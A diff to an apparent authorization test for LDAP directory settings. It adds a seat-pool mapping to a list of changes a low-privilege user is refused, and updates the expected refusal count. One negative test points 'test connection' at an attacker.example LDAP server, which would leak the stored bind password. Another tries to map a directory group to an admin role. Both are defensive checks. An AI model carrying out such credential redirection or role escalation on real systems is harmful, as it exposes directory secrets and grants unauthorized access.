@@ -52,13 +52,15 @@ describeEachDatabase('LDAP settings: changing where the directory signs in needs
 
     // The bind password alone, the filter, the attribute mapping: each refused the same way.
     const changes: Array<Record<string, string>> = [{ bindSecret: 'new password' }, { filter: '(uid=*)' }, { attr_email: 'otherMail' }, { baseDn: 'dc=example,dc=com' }];
+    // Nor what the next sync sets on those accounts: their seat pool (kind mapping).
+    changes.push({ kindMode: 'attribute', kindAttribute: 'employeeType', kindValue: 'requester' });
     for (const change of changes) {
       expect((await actor.post('/admin/directory/ldap', form(change))).status, JSON.stringify(change)).to.equal(403);
     }
     // "Test connection" does not send the stored password to another server either.
     const tested = await actor.post('/admin/directory/ldap', form({ url: 'ldap://attacker.example:389', action: 'test' }));
     expect(tested.status).to.equal(403);
-    expect(await refusals(h)).to.have.length(6);
+    expect(await refusals(h)).to.have.length(7);
     // Nor map a directory group to a role carrying permissions the actor does not hold.
     const mapped = await actor.post('/admin/directory/ldap', form({ groupDn_0: 'cn=admins,ou=groups,dc=example,dc=com', roleId_0: admin.id }));
     expect(mapped.status).to.equal(400);
